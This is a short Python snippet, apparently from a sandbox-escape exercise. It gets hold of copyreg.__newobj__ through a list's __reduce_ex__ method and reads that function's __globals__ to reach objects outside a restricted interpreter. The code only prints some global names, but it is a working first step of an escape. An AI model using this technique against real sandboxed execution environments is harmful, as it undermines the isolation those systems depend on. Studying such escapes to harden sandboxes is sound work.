# Calling __reduce_ex__ on a plain list returns copyreg.__newobj__, a Python
# function whose globals lead out of the sandbox.
newobj = [].__reduce_ex__(2)[0]
outside = newobj.__globals__
print(sorted(outside)[:10])
